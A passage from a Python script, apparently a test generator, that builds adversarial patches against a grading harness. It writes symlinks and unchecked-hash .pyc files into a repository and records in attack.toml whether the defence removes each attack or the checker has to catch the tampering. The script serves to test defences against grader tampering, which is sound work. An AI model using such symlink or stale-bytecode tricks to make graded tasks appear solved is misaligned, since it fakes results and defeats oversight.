                    os.remove(full)
                    if not os.listdir(os.path.dirname(full)):
                        os.rmdir(os.path.dirname(full))
                elif op == "symlink":
                    os.symlink(text, full)
                elif op == "pyc":
                    src = full[:-1]
                    with open(src, "w") as f:
                        f.write(text)
                    py_compile.compile(src, cfile=full, dfile=path[:-1], doraise=True,
                                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
                    os.remove(src)
                else:
                    with open(full, "a" if op == "append" else "w") as f:
                        f.write(text)
            git(work, "add", "-A", "-N", "-f")
            patch = git(work, "diff", "HEAD", "--binary", "--no-color", "--no-ext-diff") + extra
        out = os.path.join(HERE, name)
        os.makedirs(out, exist_ok=True)
        with open(os.path.join(out, f"{repo}.patch"), "w") as f:
            f.write(patch)
        with open(os.path.join(out, "attack.toml"), "w") as f:
            f.write(f'# Generated by tests/adversarial/make.py.\n')
            f.write(f'task = "sdk-retry"\nrepo = "{repo}"\n')
            f.write(f'what = "{what}"\n')
            f.write(f'# `unsolved`: the defence removes the attack; `tampered`: taskc must catch it.\n')
            f.write(f'expect = "{expect}"\n')
            f.write("flagged = [" + ", ".join(f'"{p}"' for p in flagged) + "]\n")


if __name__ == "__main__":
    main()
